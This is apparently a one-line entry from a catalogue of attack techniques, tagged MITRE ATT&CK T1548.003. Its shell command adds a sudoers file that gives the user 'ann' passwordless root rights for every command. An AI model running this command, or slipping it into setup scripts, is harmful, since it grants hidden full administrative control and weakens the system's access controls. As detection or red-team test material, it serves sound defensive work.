# title: A user may do everything without a password
# technique: T1548.003
# short: yes

echo 'ann ALL=(ALL) NOPASSWD: ALL' >/tmp/s && install -m 440 /tmp/s /etc/sudoers.d/90-ann
